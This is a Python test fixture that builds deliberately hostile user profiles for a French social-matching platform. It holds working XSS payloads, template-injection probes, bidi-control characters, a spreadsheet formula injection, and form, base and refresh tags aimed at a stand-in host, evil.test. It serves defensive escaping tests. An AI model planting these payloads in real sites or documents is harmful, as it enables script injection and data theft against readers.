"""What somebody may write in a profile to harm whoever reads it, and profiles full of it."""

from collections.abc import Mapping
from typing import Any

HARM = "owned=1;alert(1)"
TEXTS = (
    f"<script>{HARM}</script>",
    f'"><img src=x onerror="{HARM}">',
    f"'><svg onload='{HARM}'><animate onbegin={HARM}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={HARM}>'>",
    f"</textarea></title></style></script><script>{HARM}</script>",
    f'<a href="javascript:{HARM}">clic</a> javascript:{HARM}',
    f'<iframe srcdoc="<script>{HARM}</script>"></iframe><object data=//evil.test>',
    f"<details open ontoggle={HARM}><input autofocus onfocus={HARM}>",
    "<link rel=stylesheet href=//evil.test/x.css><meta http-equiv=refresh content=0;//evil.test>",
    "<form action=//evil.test><button>Envoyer</button></form><base href=//evil.test>",
    "{{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7} {typed} %(x)s %00",
    "\u202egauche à droite\u202c \u200bsans\u200dlargeur\u2066isolé\u2069 \u061c\u200f",
    '=HYPERLINK("http://evil.test";"x") @SUM(A1) +1 -1|cmd',
    "\\u0000 &#0; &lt;script&gt; \\x3cscript\\x3e %3Cscript%3E ]]> --> /* `",
)
WORD, LONG = "W" * 10_000, "X" * 120
LOZERE = {"commune": "48095", "zone": ["48"], "radius_km": 20}
NEED = "Un atelier de réparation de vélos pour des jeunes"
ROOM = "Une salle de réunion pour des ateliers"


def named(*numbers: int) -> str:
    """A name that fits, made of several texts."""
    return " ".join(TEXTS[number] for number in numbers)[:300].strip()


def _profile(kind: str, number: int, **said: Any) -> Mapping[str, Any]:
    hostile = {
        "id": f"zz{number}\"'><svg&onload={{{{7*7}}}}>",
        "kind": kind,
        "name": named(0, 1, 9, 10) if number % 2 else named(2, 3, 11),
        "organization": f"{named(4, 5, 13)} {LONG}"[:300] if number % 2 else named(6, 7, 12),
        "structure_type": TEXTS[0],
        "description": f"{' '.join(TEXTS)} {WORD}",
        "source": TEXTS[1],
        "publics": ["jeunes"],
    }
    return hostile | LOZERE | said


def spoken(text: str) -> list[str]:
    """The same sentence with each of the texts in it."""
    return [f"{text} {hostile}" for hostile in TEXTS]


ONE, OTHER, ALONE = (
    _profile("social_worker", 1, needs=spoken(NEED), offers=spoken(ROOM)),
    _profile("social_entrepreneur", 2, needs=spoken(ROOM), offers=spoken(NEED)),
    _profile("social_worker", 3, needs=["Zymurgie"], offers=[]),
)
"""Two who would meet, in a département where there is nobody else, and one whom nobody answers."""
PROFILES = (ONE, OTHER, ALONE)
